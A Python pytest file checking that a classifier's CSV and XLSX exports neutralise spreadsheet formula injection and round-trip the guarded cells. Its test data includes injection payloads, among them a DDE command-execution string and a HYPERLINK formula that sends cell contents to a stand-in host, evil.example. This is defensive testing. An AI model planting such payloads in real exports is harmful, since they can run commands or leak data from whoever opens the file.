"""No cell of an export is a formula for the program that opens it, and whoever reads the export here gets the cells back."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from conftest import Finished
from hypothesis import given, settings
from hypothesis import strategies as st
from paths import ROOT

from classifier import Model, agreement_csv, compare, csv_line, theme_mix, write_comparison, write_mix
from classifier.csv_cells import guarded_cell, unguarded_cell

Run = Callable[..., Finished]
TEXT = "全年调解纠纷300件，成功率98%。"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    " +1",
    "\n@x",
    "\t=1",
    "\r=1",
    "\u00a0=1",
    "\u3000-一是调解",
    "\ufeff=1",
    "\0=1",
    "＝1+1",
    "＠x",
    "'=1",
    "''=1",
]
HARMLESS = ["", "调解", "1-2", "-5", "+5", "-0.5", "-1.5e-05", "-12%", "'", "'调解'", " 调解", "a=1", "“=1”", "——", "{=1}"]


def is_formula(cell: str) -> bool:
    """Tell it as OWASP does, and more strictly: whatever stands before the sign."""
    return cell.lstrip(" \t\r\n\0\ufeff\u00a0\u3000").startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("cell", FORMULAS, ids=repr)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert guarded_cell(cell) == f"'{cell}" and not is_formula(guarded_cell(cell))


@pytest.mark.parametrize("cell", HARMLESS, ids=repr)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert guarded_cell(cell) == cell == unguarded_cell(cell)


@settings(max_examples=40)
@given(st.text("'=+-@＝ \t\n\0a1.%调", max_size=6) | st.text(max_size=6))
def test_reading_takes_away_just_what_writing_added(cell: str) -> None:
    assert unguarded_cell(guarded_cell(cell)) == cell


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table whose cells, and the name of a column, are formulas."""
    path = tmp_path_factory.mktemp("formulas") / "in.jsonl"
    rows = [{"text": TEXT, "=note": cell, "jurisdiction": cell, "year": "-2024"} for cell in FORMULAS]
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return path


def cells_of(data: bytes | str) -> list[str]:
    text = data if isinstance(data, str) else data.decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    assert [cell for cell in cells if is_formula(cell) and guarded_cell(cell) != cell] == []


def test_a_classified_table_holds_no_formula_and_comes_back_as_it_was(run: Run, table: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "out.csv", tmp_path / "again.jsonl"
    assert run("classify", str(table), "-o", str(first)).code == 0
    assert_no_formula(cells_of(first.read_bytes()))
    assert run("classify", str(first), "-o", str(second)).code == 0
    rows = [json.loads(line) for line in second.read_text(encoding="utf-8").splitlines()]
    assert [row["=note"] for row in rows] == [row["jurisdiction"] for row in rows] == FORMULAS
    assert {row["year"] for row in rows} == {"-2024"}


def test_a_workbook_holds_formulas_as_text(run: Run, table: Path, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    assert run("classify", str(table), "-o", str(path)).code == 0
    kinds = {cell.data_type for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row}
    assert kinds <= {"s", "n"}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tables_of_shares_and_differences_hold_no_formula(model: Model, tmp_path: Path, suffix: str) -> None:
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "sources.csv").write_text(
        csv_line(["file", "jurisdiction", "year"]) + csv_line(["甲.txt", "=cmd()", "2024"]) + csv_line(["乙.txt", "@乙", "2024"]),
        encoding="utf-8",
    )  # fmt: skip
    for name in ("甲.txt", "乙.txt"):
        (folder / name).write_text(f"{TEXT}\n{TEXT}\n", encoding="utf-8")
    mix = theme_mix(folder, model)
    assert {row.origin.jurisdiction for row in mix.rows} == {"=cmd()", "@乙"}
    write_mix(mix, model.codebook, tmp_path / f"mix{suffix}")
    write_comparison(compare(folder, "=cmd()", "@乙", model), model.codebook, tmp_path / f"compare{suffix}")
    for path in tmp_path.glob(f"*{suffix}"):
        if suffix == ".csv":
            assert_no_formula(cells_of(path.read_bytes()))
            assert "'=cmd()" in cells_of(path.read_bytes())
        else:
            sheets = openpyxl.load_workbook(path).worksheets
            assert not any(cell.data_type == "f" for sheet in sheets for row in sheet.iter_rows() for cell in row)


def test_label_files_and_votes_hold_no_formula(model: Model, tmp_path: Path) -> None:
    assert_no_formula(cells_of(csv_line(FORMULAS)))
    assert [unguarded_cell(cell) for cell in cells_of(csv_line(FORMULAS))] == FORMULAS
    votes = {"=甲": {("=a.txt", 1, 0): "mediation"}, "@乙": {("=a.txt", 1, 0): "publicity"}}
    assert_no_formula(cells_of(agreement_csv(votes, model.codebook)))


def test_the_shipped_labels_have_no_cell_that_is_written_otherwise() -> None:
    for path in (ROOT / "labels").glob("*.csv"):
        assert_no_formula(cells_of(path.read_bytes()))
